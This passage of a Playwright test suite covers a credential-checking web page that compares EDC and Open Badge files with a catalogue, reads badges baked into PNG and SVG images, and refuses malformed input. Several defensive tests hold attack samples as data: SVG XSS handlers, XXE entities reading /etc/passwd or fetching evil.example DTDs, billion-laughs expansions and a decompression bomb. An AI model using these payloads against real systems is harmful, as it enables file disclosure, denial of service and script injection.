    Badge's own name and its achievement's description: a copy that changes any of them does
    not match, and the note says what. As issued there is no description row (nothing to
    say)."""
    said = ui_strings("en")["check"]
    cred = sample_site.catalogue.credentials[CID]
    other = "Advanced Data Science"
    title = page.locator('[data-credcat-row="title"]')
    described = page.locator('[data-credcat-row="description"]')
    eqf = page.locator('[data-credcat-row="eqf"]')
    open_check(page, sample_site)
    paste(page, json.dumps(issued))
    expect(described).to_have_count(0)

    shown = json.loads(json.dumps(issued))
    assert shown["displayParameter"]["title"]["en"] == cred.title["en"]
    shown["displayParameter"]["title"]["en"] = other
    paste(page, json.dumps(shown))
    assert verdict(page) == "differences", output_text(page)
    expect(title).to_have_attribute("data-credcat-result", "differs")
    expect(title.locator("td").last).to_contain_text(str(said["title_extra"]).format(text=other))

    reworded = json.loads(json.dumps(issued))
    spec = claim_of(reworded)["specifiedBy"]
    spec["description"]["de"] += " Mit Garantie auf eine Stelle."
    paste(page, json.dumps(reworded))
    assert verdict(page) == "differences", output_text(page)
    expect(described).to_have_attribute("data-credcat-result", "differs")
    expect(described.locator("td").first).to_contain_text("Mit Garantie auf eine Stelle.")
    expect(described.locator("td").last).to_contain_text(str(said["description_differs"]))

    labelled = json.loads(json.dumps(issued))
    level = claim_of(labelled)["specifiedBy"]["eqfLevel"]
    assert level["id"].endswith(f"/{cred.eqf}")
    level["prefLabel"] = {"en": "Level 8"}
    paste(page, json.dumps(labelled))
    assert verdict(page) == "differences", output_text(page)
    expect(eqf).to_have_attribute("data-credcat-result", "differs")
    expect(eqf.locator("td").last).to_contain_text(
        str(said["eqf_label"]).format(label="Level 8", level=cred.eqf)
    )

    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    paste(page, json.dumps(badge))
    assert verdict(page) == "match", output_text(page)
    expect(described).to_have_count(0)
    renamed = json.loads(json.dumps(badge))
    renamed["name"] = other
    paste(page, json.dumps(renamed))
    assert verdict(page) == "differences", output_text(page)
    expect(title.locator("td").last).to_contain_text(str(said["title_extra"]).format(text=other))
    redescribed = json.loads(json.dumps(badge))
    redescribed["credentialSubject"]["achievement"]["description"] += " Guaranteed job."
    paste(page, json.dumps(redescribed))
    assert verdict(page) == "differences", output_text(page)
    expect(described.locator("td").first).to_contain_text("Guaranteed job.")
    assert_no_axe_violations(page, "check page, a description changed")


@pytest.mark.parametrize("lang", ["", "fr/"])
def test_the_verdict_says_that_the_files_origin_is_not_proven(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """Under the verdict, one line: a signed file's seal is not checked here (and where to check
    it: the EDC viewer, an Open Badges verifier); an unsigned file could have been written by
    anyone. "Read as: …, signed" never stands alone."""
    said = open_check_in(page, sample_site, lang)
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    proved = {
        **badge,
        "proof": {"type": "DataIntegrityProof", "proofValue": "z-not-a-real-proof"},
    }
    cases = {
        "edc unsigned": (json.dumps(issued), "origin_unsigned"),
        "edc uploadable": (json.dumps(fx.uploadable(issued)), "origin_unsigned"),
        "edc jades": (json.dumps(fx.jades_json(issued)), "origin_signed_edc"),
        "edc compact": (fx.jws_compact(issued), "origin_signed_edc"),
        "ob3 unsigned": (json.dumps(badge), "origin_unsigned"),
        "ob3 proof": (json.dumps(proved), "origin_signed_ob3"),
        "ob3 jwt": (fx.vc_jwt(badge), "origin_signed_ob3"),
    }
    for name, (text, key) in cases.items():
        paste(page, text)
        origin = page.locator(".credcat-check__verdict + .credcat-check__origin")
        expect(origin).to_have_text(str(said[key]))
        kind = "unsigned" if key == "origin_unsigned" else "signed"
        assert origin.get_attribute("data-credcat-origin") == kind, name
    paste(page, json.dumps(proved))
    assert str(said["form_proof"]) in output_text(page)
    assert_no_axe_violations(page, f"check page, origin not proven ({lang or 'en'})")


# --- accessibility and dropping files ---------------------------------------------------------

DROP = """([selector, name, text]) => {
    const data = new DataTransfer();
    data.items.add(new File([text], name, {type: "application/json"}));
    const target = document.querySelector(selector);
    const results = [];
    for (const type of ["dragenter", "dragover", "drop"]) {
        const event = new DragEvent(type, {bubbles: true, cancelable: true, dataTransfer: data});
        results.push(target.dispatchEvent(event));
    }
    return results;  // false: the page cancelled it (the browser does not open the file)
}"""


def test_only_the_verdict_is_announced_and_focus_goes_to_the_heading(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """The result is no live region (read out whole, thousands of characters, at every check,
    and again from the heading that takes the focus): one small status element says the
    verdict line alone; the focus goes to the result's heading."""
    open_check(page, sample_site)
    output = page.locator("#credcat-check-output")
    paste(page, json.dumps(issued))
    assert output.get_attribute("role") is None
    assert output.get_attribute("aria-live") is None
    live = page.locator('.credcat-check [role="status"], .credcat-check [aria-live]')
    expect(live).to_have_count(1)
    message = page.locator(".credcat-check__verdict").inner_text()
    expect(live).to_have_text(message)
    assert len(message) < 300
    heading = page.locator("#credcat-check-result-heading")
    assert heading.evaluate("h => document.activeElement === h")
    assert live.evaluate("l => !document.getElementById('credcat-check-result').contains(l)")
    paste(page, "{")
    expect(live).to_contain_text(str(ui_strings("en")["check"]["error_heading"]))


def test_a_file_dropped_anywhere_stays_on_the_page(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A file dropped just outside the drop box is not opened by the browser (which left the
    page): every file drag and drop on the page is cancelled; one dropped on the paste area is
    read as a file."""
    open_check(page, sample_site)
    text = json.dumps(issued)
    for selector in ("h1", "#credcat-check-seal", ".credcat-check__actions"):
        assert page.evaluate(DROP, [selector, "maria.json", text]) == [False] * 3, selector
    expect(page.locator("#credcat-check-result")).to_be_hidden()
    assert page.evaluate(DROP, ["#credcat-check-text", "maria.json", text])[-1] is False
    expect(page.locator("#credcat-check-output")).to_have_attribute("data-credcat-verdict", "match")
    expect(page.locator(".credcat-check__when")).to_contain_text("maria.json")
    expect(page.locator("#credcat-check-text")).to_have_value("")


# --- what the file is -------------------------------------------------------------------------


def test_a_pdf_or_a_jpeg_is_named_as_such(page: Page, sample_site: Site):
    """A PDF or a photo (a JPEG with JFIF, Exif or neither; a GIF, a WebP, an iPhone's HEIC,
    an AVIF) is not a credential file this page reads: the message says what it is and which
    files it reads (not "check that you copied all of it")."""
    said = ui_strings("en")["check"]
    files = [
        ("PDF", "certificate.pdf", "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"),
        ("JPEG", "photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"),
        ("JPEG", "camera.jpg", "image/jpeg", b"\xff\xd8\xff\xe1\x12\x34Exif\x00\x00MM"),
        ("JPEG", "plain.jpg", "image/jpeg", b"\xff\xd8\xff\xdb\x00\x43\x00\x08\x06\x06"),
        ("GIF", "badge.gif", "image/gif", b"GIF89a\x10\x00\x10\x00\x80\x00\x00"),
        ("WebP", "badge.webp", "image/webp", b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00"),
        ("HEIC", "IMG_0001.HEIC", "image/heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"),
        ("AVIF", "badge.avif", "image/avif", b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00"),
    ]
    open_check(page, sample_site)
    output = page.locator("#credcat-check-output")
    for kind, name, mime, data in files:
        choose(page, name, mime, data)
        expect(output).to_have_attribute("data-credcat-verdict", "error")
        expect(output).to_contain_text(str(said["error_file_kind"]).format(kind=kind))
        expect(output).not_to_contain_text(str(said["error_json"]))


# --- badge images -----------------------------------------------------------------------------


def choose(page: Page, name: str, mime: str, data: bytes) -> None:
    """Choose a file (after Clear); wait for the verdict."""
    page.locator("#credcat-check-clear").click()
    expect(page.locator("#credcat-check-result")).to_be_hidden()
    page.set_input_files(
        "#credcat-check-file", files=[{"name": name, "mimeType": mime, "buffer": data}]
    )
    expect(page.locator("#credcat-check-output[data-credcat-verdict]")).to_have_count(1)


def console_errors(page: Page) -> list[str]:
    """What the page writes to the console as errors from now on (none, however hostile the
    file: each is a message on the page)."""
    errors: list[str] = []
    page.on(
        "console", lambda message: errors.append(message.text) if message.type == "error" else None
    )
    return errors


DROP_BYTES = """([selector, name, type, data]) => {
    const bytes = Uint8Array.from(atob(data), c => c.charCodeAt(0));
    const transfer = new DataTransfer();
    transfer.items.add(new File([bytes], name, {type}));
    const event = new DragEvent("drop", {bubbles: true, cancelable: true, dataTransfer: transfer});
    return document.querySelector(selector).dispatchEvent(event);
}"""


def test_a_credential_baked_into_a_badge_image_is_read(page: Page, sample_site: Site):
    """An Open Badge handed over as its image, the credential baked in as Open Badges 3.0
    bakes it (a PNG's iTXt chunk "openbadgecredential", its JSON or a compact JWS, also
    compressed; an SVG's <openbadges:credential>, the JSON in CDATA or a JWS in its verify
    attribute), chosen, dropped or (an SVG) pasted, is read as its credential: the same
    verdict and rows as the credential's own file, and a line saying that it was read from
    the badge image."""
    said = ui_strings("en")["check"]
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    text, jws = json.dumps(badge), fx.jws_compact(badge)
    odd = b"openbadgecredential\0\0\x07\0\0" + text.encode("utf-8")
    svg = (sample_site.root / "credentials" / CID / VERSION / "badge.svg").read_text("utf-8")
    errors = console_errors(page)
    open_check(page, sample_site)
    message = page.locator(".credcat-check__verdict")
    note = page.locator(".credcat-check__baked")
    paste(page, text)
    plain = (verdict(page), row_results(page), message.inner_text())
    assert plain[0] == "match", output_text(page)
    expect(note).to_have_count(0)
    images = {
        "PNG, JSON": ("maria.png", fx.baked_png(text), "unsigned"),
        "PNG, JWS": ("maria.png", fx.baked_png(jws), "jws_compact"),
        "PNG, compressed": ("maria.png", fx.baked_png(text, compressed=True), "unsigned"),
        # uncompressed, a compression method other than zlib's 0 stated (ignored, as PNG says)
        "PNG, any method": ("maria.png", fx.png(fx.png_chunk(b"iTXt", odd)), "unsigned"),
        "SVG, JSON": ("maria.svg", fx.baked_svg(svg, text).encode(), "unsigned"),
        "SVG, JWS": ("maria.svg", fx.baked_svg(svg, jws, verify=True).encode(), "jws_compact"),
    }
    for name, (filename, data, form) in images.items():
        kind = filename[-3:]
        choose(page, filename, f"image/{'png' if kind == 'png' else 'svg+xml'}", data)
        assert (verdict(page), row_results(page), message.inner_text()) == plain, name
        expect(note).to_have_text(str(said["baked_read"]).format(kind=kind.upper()))
        expect(note).to_have_attribute("data-credcat-baked", kind)
        expect(page.locator(".credcat-check__format")).to_contain_text(str(said[f"form_{form}"]))
        expect(page.locator(".credcat-check__when")).to_contain_text(filename)
    assert_no_axe_violations(page, "check page, a badge image")
    # a browser without DecompressionStream says that it cannot read a compressed one
    page.evaluate("() => { delete window.DecompressionStream; }")
    choose(page, "maria.png", "image/png", fx.baked_png(text, compressed=True))
    assert verdict(page) == "error"
    expect(page.locator(".credcat-check__message")).to_have_text(
        str(said["error_baked_compressed"])
    )

    page.locator("#credcat-check-clear").click()
    encoded = base64.b64encode(fx.baked_png(text)).decode("ascii")
    assert (
        page.evaluate(DROP_BYTES, ["#credcat-check-drop", "maria.png", "image/png", encoded])
        is False
    )
    expect(page.locator("#credcat-check-output")).to_have_attribute("data-credcat-verdict", "match")
    expect(note).to_have_attribute("data-credcat-baked", "png")
    paste(page, fx.baked_svg(svg, text))  # the SVG's text pasted
    assert (verdict(page), row_results(page)) == plain[:2]
    expect(note).to_have_attribute("data-credcat-baked", "svg")
    assert errors == []


def test_an_image_without_a_baked_credential_says_so(page: Page, sample_site: Site):
    """A PNG or an SVG with no credential baked in (the version's own badge.svg, a PNG whose
    text chunks are others) says that none is baked into it, and what the page reads; one
    holding an Open Badges 2.0 assertion says that this page reads Open Badges 3.0 only."""
    said = ui_strings("en")["check"]
    svg = (sample_site.root / "credentials" / CID / VERSION / "badge.svg").read_bytes()
    ob2_svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        '<openbadges:assertion verify="https://issuer.example/assertions/1"/></svg>'
    )
    described = fx.png(
        fx.png_chunk(b"tEXt", b"Software\0Inkscape"),
        fx.png_chunk(b"iTXt", fx.itxt("Description", "A badge")),
    )
    ob2 = fx.png(fx.png_chunk(b"iTXt", fx.itxt("openbadges", "https://issuer.example/a/1")))
    cases = [
        ("badge.png", "image/png", fx.png(), str(said["error_not_baked"]).format(kind="PNG")),
        ("badge.png", "image/png", described, str(said["error_not_baked"]).format(kind="PNG")),
        ("badge.svg", "image/svg+xml", svg, str(said["error_not_baked"]).format(kind="SVG")),
        ("ob2.png", "image/png", ob2, str(said["error_baked_ob2"])),
        ("ob2.svg", "image/svg+xml", ob2_svg.encode(), str(said["error_baked_ob2"])),
    ]
    errors = console_errors(page)
    open_check(page, sample_site)
    output = page.locator("#credcat-check-output")
    for name, mime, data, words in cases:
        choose(page, name, mime, data)
        assert verdict(page) == "error", name
        expect(page.locator(".credcat-check__message")).to_have_text(words)
        expect(output).not_to_contain_text(str(said["error_json"]))
        expect(page.locator(".credcat-check__baked")).to_have_count(0)
    assert errors == []


# Each compressed slice the page hands to the browser's inflater, by size: a DecompressionStream
# in its place that passes every slice on to the browser's own.
RECORD_INFLATER_INPUT = """() => {
    const Native = window.DecompressionStream;
    window.__credcatInflaterInput = [];
    window.DecompressionStream = function (format) {
        const inner = new Native(format);
        const writer = inner.writable.getWriter();
        this.readable = inner.readable;
        this.writable = new WritableStream({
            write(chunk) {
                window.__credcatInflaterInput.push(chunk.byteLength);
                return writer.write(chunk);
            },
            close() { return writer.close(); },
            abort(reason) { return writer.abort(reason); },
        });
    };
}"""


def test_a_decompression_bomb_is_inflated_a_slice_at_a_time(page: Page, sample_site: Site):
    """A badge image of 1 MB whose compressed text inflates to 1 GB is refused as larger than
    5 MB, and the page inflates it a small slice at a time (4 KiB, at most some 4 MB inflated
    each), reading each before the next: the browser's inflater once got the image's text in
    the chunks the file's stream hands over (up to a megabyte) and inflated each whole before
    the page could stop it (a 4.7 MB image inflating to 4.6 GB grew the tab by 2.3 GB). A
    compressed credential of several slices is still read."""
    said = ui_strings("en")["check"]
    squeeze = zlib.compressobj(9)
    block = b" " * (1024 * 1024)
    parts = [squeeze.compress(b'{"a": "'), *(squeeze.compress(block) for _ in range(1_000))]
    text = b"".join([*parts, squeeze.flush()])
    bomb = fx.png(fx.png_chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + text))
    assert len(bomb) > 1_000_000  # more than the file's stream hands over at once
    open_check(page, sample_site)
    page.evaluate(RECORD_INFLATER_INPUT)
    choose(page, "badge.png", "image/png", bomb)
    assert verdict(page) == "error", output_text(page)
    expect(page.locator(".credcat-check__message")).to_have_text(
        str(said["error_too_big"]).format(mb=5)
    )
    slices = page.evaluate("() => window.__credcatInflaterInput")
    assert slices and max(slices) <= 4096, max(slices or [0])
    # it stopped soon after 5 MB inflated (some 5 kB of spaces compressed), not at the end
    assert sum(slices) < 100_000, sum(slices)

    # a compressed credential of many slices (its texts as random as a real one's) is read
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    badge["credentialSubject"]["achievement"]["description"] = base64.b64encode(
        random.Random(1).randbytes(60_000)
    ).decode()
    page.evaluate("() => { window.__credcatInflaterInput = []; }")
    choose(page, "maria.png", "image/png", fx.baked_png(json.dumps(badge), compressed=True))
    assert verdict(page) != "error", output_text(page)
    expect(page.locator(".credcat-check__baked")).to_have_attribute("data-credcat-baked", "png")
    assert len(page.evaluate("() => window.__credcatInflaterInput")) > 10


def test_a_damaged_badge_image_gets_a_clear_message_and_never_runs(page: Page, sample_site: Site):
    """A PNG cut short, with a chunk longer than the file, a credential chunk whose CRC is
    another, a signature mangled, no IHDR first or no IEND, a compressed text that does not
    inflate or inflates past the limit, a baked text that is no UTF-8, an SVG that is no
    well-formed XML, and a baked text that is no credential: each gets a clear message, and
    nothing runs or is fetched, however hostile the image (a script, handlers, an external
    image in the SVG; payloads in every text of the credential)."""
    said = ui_strings("en")["check"]
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    text = json.dumps(badge)
    good = fx.baked_png(text)
    chunk = fx.itxt("openbadgecredential", text)
    ihdr_end = 8 + 25  # signature, IHDR (4 + 4 + 13 + 4)
    damaged = {kind: str(said["error_image_damaged"]).format(kind=kind) for kind in ("PNG", "SVG")}
    not_utf8 = b"openbadgecredential\0\0\0\0\0\xff\xfe{}"
    garbage = b"openbadgecredential\0\1\0\0\0not zlib at all"
    bomb = fx.baked_png("{" + " " * (6 * 1024 * 1024) + "}", compressed=True)
    assert len(bomb) < 100_000
    cases = {
        "cut short": (good[: len(good) // 2], damaged["PNG"]),
        "old header only": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", damaged["PNG"]),
        "no IEND": (fx.png(end=False), damaged["PNG"]),
        "absurd length": (fx.png(fx.png_chunk(b"iTXt", chunk, length=0xFFFFFFF0)), damaged["PNG"]),
        "CRC": (fx.png(fx.png_chunk(b"iTXt", chunk, crc=0)), damaged["PNG"]),
        "signature": (good.replace(b"\r\n", b"\n", 1), damaged["PNG"]),
        "no IHDR first": (fx.PNG_SIGNATURE + good[ihdr_end:], damaged["PNG"]),
        "not UTF-8": (fx.png(fx.png_chunk(b"iTXt", not_utf8)), damaged["PNG"]),
        "not zlib": (fx.png(fx.png_chunk(b"iTXt", garbage)), damaged["PNG"]),
        "inflates too far": (bomb, "larger than 5 MB"),
        "not JSON": (
            fx.baked_png("Hello, I am a credential."),
            str(said["error_baked_json"]).format(kind="PNG"),
        ),
        "SVG not XML": (
            b'<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential>{}',
            damaged["SVG"],
        ),
        "JSON, no credential": (
            fx.baked_png('{"type": "Something else"}'),
            said["error_not_credential"],
        ),
    }
    errors = console_errors(page)
    open_check(page, sample_site)
    for name, (data, words) in cases.items():
        filename = "badge.svg" if name.startswith("SVG") else "badge.png"
        choose(page, filename, "image/png", data)
        assert verdict(page) == "error", (name, output_text(page))
        expect(page.locator(".credcat-check__message")).to_contain_text(str(words))
        assert str(said["error_json"]) not in output_text(page), name
    # a baked text that reads as JSON but is no credential: read from the image, said so
    expect(page.locator(".credcat-check__baked")).to_have_attribute("data-credcat-baked", "png")
    assert_no_axe_violations(page, "check page, a damaged badge image")

    hostile = json.dumps(fx.with_payloads(badge))
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1">'
        "<script>window.__xss=1</script>"
        '<image href="https://evil.example/x.png" onerror="window.__xss=1"/>'
        "</svg>"
    )
    for filename, data in (
        ("badge.png", fx.baked_png(hostile)),
        ("badge.svg", fx.baked_svg(svg, hostile).encode()),
    ):
        choose(page, filename, "application/octet-stream", data)
        assert verdict(page) == "differences", output_text(page)
        assert "<img src=x onerror=" in output_text(page)  # shown as text
        page.locator("#credcat-check-output").hover()
        result = page.evaluate(XSS_PROBE)
        assert not result["fired"] and not result["bad"], result
    assert errors == []


def test_a_badge_exported_with_a_doctype_is_read(page: Page, sample_site: Site):
    """An SVG badge image that begins with a document type declaration, as Adobe Illustrator
    exports it (its DTD declaring the namespaces it uses as entities, the root element naming
    them by reference: xmlns:x="&ns_extend;"), chosen or pasted, is read as its credential; so
    is one whose DOCTYPE has only its public and system identifiers (never fetched: the page
    loads nothing from elsewhere, which the guard of the browser context checks). The page
    expands the entities itself, in attributes and text but not in CDATA, a comment or the
    credential's JSON, and gives DOMParser no DTD at all."""
    said = ui_strings("en")["check"]
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    text = json.dumps(badge)
    svg = (sample_site.root / "credentials" / CID / VERSION / "badge.svg").read_text("utf-8")
    illustrator = fx.baked_svg(fx.illustrator_svg(svg), text)
    assert len(illustrator.split("<svg", 1)[0]) > 512  # its DTD is longer than the page's sniff
    errors = console_errors(page)
    open_check(page, sample_site)
    paste(page, text)
    plain = (verdict(page), row_results(page))
    assert plain[0] == "match", output_text(page)
    note = page.locator(".credcat-check__baked")
    images = {
        "Illustrator": illustrator,
        "identifiers only": fx.with_doctype(fx.baked_svg(svg, text), None),
        "SYSTEM identifier only": fx.baked_svg(svg, text).replace(
            "<svg",
            '<!DOCTYPE svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg',
            1,
        ),
    }
    for name, data in images.items():
        choose(page, "badge.svg", "image/svg+xml", data.encode())
        assert (verdict(page), row_results(page)) == plain, (name, output_text(page))
        expect(note).to_have_text(str(said["baked_read"]).format(kind="SVG"))
    paste(page, illustrator)  # the SVG's text pasted
    assert (verdict(page), row_results(page)) == plain
    expect(note).to_have_attribute("data-credcat-baked", "svg")

    subset = (
        '<!ENTITY a "x\'>y"> <!-- a comment --> <!ENTITY b \'B\'> <!ENTITY a "later">'
        ' <!ENTITY amp "and">'
    )
    given = page.evaluate(
        "text => window.credcatCheck.svgText(text)",
        fx.with_doctype(
            '<svg xmlns="http://www.w3.org/2000/svg" data-a="&a;"><!-- &a; --><?pi &b;?>'
            '<desc>&a;&b;&amp;&c;</desc><![CDATA[{"t": "&a;"}]]></svg>',
            subset,
        ),
    )
    assert given == (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        "<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 -->\n"
        "\n"  # the line the DTD was on
        '<svg xmlns="http://www.w3.org/2000/svg" data-a="x&apos;&gt;y"><!-- &a; --><?pi &b;?>'
        '<desc>x&apos;&gt;yB&amp;&c;</desc><![CDATA[{"t": "&a;"}]]></svg>'
    )
    assert errors == []


def test_an_svg_whose_doctype_is_an_attack_is_refused(page: Page, sample_site: Site):
    """An SVG badge image whose DTD is anything but plain text entities is refused with a clear
    message before any XML parser sees it, and nothing is fetched: entities nested in each other
    (billion laughs, also a quadratic blow-up of one entity referenced many times), a parameter
    entity, an external entity (a file, an address), an entity whose value holds markup, more
    entities than the page reads, a DTD with other declarations, a second DTD after the first.
    Such an image was read as a text before, and got "neither valid JSON"."""
    said = ui_strings("en")["check"]
    refused = str(said["error_svg_doctype"]).format(n=64)
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    svg = fx.baked_svg(
        (sample_site.root / "credentials" / CID / VERSION / "badge.svg").read_text("utf-8"),
        json.dumps(badge),
    )
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    quadratic = f'<!ENTITY big "{"x" * 60_000}">'
    cases = {
        "billion laughs": (laughs, "&lol9;"),
        "quadratic blow-up": (quadratic, "&big;" * 200),
        "parameter entity": (
            "<!ENTITY % pe \"<!ENTITY lol 'lol'>\"> %pe;",
            "&lol;",
        ),
        "external file": ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
        "external address": (
            '<!ENTITY xxe PUBLIC "-//X//EN" "http://evil.example/entity.txt">',
            "&xxe;",
        ),
        "parameter entity from an address": (
            '<!ENTITY % dtd SYSTEM "https://evil.example/evil.dtd"> %dtd;',
            "",
        ),
        "nested": ('<!ENTITY a "A"><!ENTITY b "&a;&a;">', "&b;"),
        "markup": ('<!ENTITY m "<script>window.__xss=1</script>">', "&m;"),
        "too many": ("".join(f'<!ENTITY e{i} "{i}">' for i in range(65)), "&e1;"),
        "other declarations": ('<!ELEMENT svg ANY><!ATTLIST svg onload CDATA "x">', ""),
        "unparsed": ('<!ENTITY u SYSTEM "https://evil.example/u" NDATA gif>', ""),
    }
    errors = console_errors(page)
    open_check(page, sample_site)
    output = page.locator("#credcat-check-output")
    for name, (subset, references) in cases.items():
        data = fx.with_doctype(svg.replace("</svg>", f"<desc>{references}</desc></svg>"), subset)
        choose(page, "badge.svg", "image/svg+xml", data.encode())
        assert verdict(page) == "error", (name, output_text(page))
        expect(page.locator(".credcat-check__message")).to_have_text(refused)
        expect(output).not_to_contain_text(str(said["error_json"]))
    # a second DTD after the first (the one DOMParser would see once the first is taken out)
    second = f"<!DOCTYPE svg [{laughs}]>\n" + svg.replace("</svg>", "<desc>&lol9;</desc></svg>")
    paste(page, fx.with_doctype(second, None))
    expect(page.locator(".credcat-check__message")).to_have_text(refused)
    assert page.evaluate("() => window.__xss") is None
    assert errors == []


def test_a_graph_or_a_presentation_holding_a_credential_is_read(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A JSON-LD document whose @graph holds a credential is that credential (not "a description
    this catalogue publishes", which only the catalogue's own files are); a presentation (JSON
    or VP-JWT) holding one is read, and one holding several says that the first is read."""
    said = ui_strings("en")["check"]
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    open_check(page, sample_site)
    paste(page, json.dumps(fx.in_graph(issued)))
    assert verdict(page) == "match", output_text(page)
    assert "VC data model 1.1" in output_text(page)

    paste(page, json.dumps({"@graph": [{"id": "https://elsewhere.example/x", "type": "Thing"}]}))
    assert verdict(page) == "error"
    assert str(said["error_not_credential"]) in output_text(page)
    assert str(said["error_specification"]) not in output_text(page)

    for text in (json.dumps(fx.presentation(issued)), fx.vp_jwt(fx.vc_jwt(issued))):
        paste(page, text)
        assert verdict(page) == "match", output_text(page)
        assert str(said["in_presentation"]) in output_text(page)
        expect(page.locator(".credcat-check__presented")).to_have_count(0)
    paste(page, fx.vp_jwt(fx.vc_jwt(issued)))
    assert str(said["form_vc_jwt"]) in output_text(page)  # the credential's own seal

    paste(page, json.dumps(fx.presentation(issued, badge)))
    assert verdict(page) == "match", output_text(page)
    expect(page.locator(".credcat-check__presented")).to_have_text(
        str(said["presentation_many"]).format(n=2)
    )
